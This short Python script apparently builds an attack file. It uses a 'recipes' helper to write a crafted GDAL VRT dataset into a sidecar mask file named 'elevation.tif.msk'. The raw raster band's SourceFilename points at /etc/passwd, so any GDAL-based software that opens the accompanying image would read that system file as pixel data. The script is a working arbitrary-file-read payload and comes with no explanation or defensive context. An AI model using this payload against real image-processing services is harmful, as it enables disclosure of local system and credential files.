from recipes import *

VRT = '<VRTDataset rasterXSize="240" rasterYSize="200"><VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand">' \
      '<SourceFilename>/etc/passwd</SourceFilename></VRTRasterBand></VRTDataset>'
put("elevation.tif.msk", VRT)
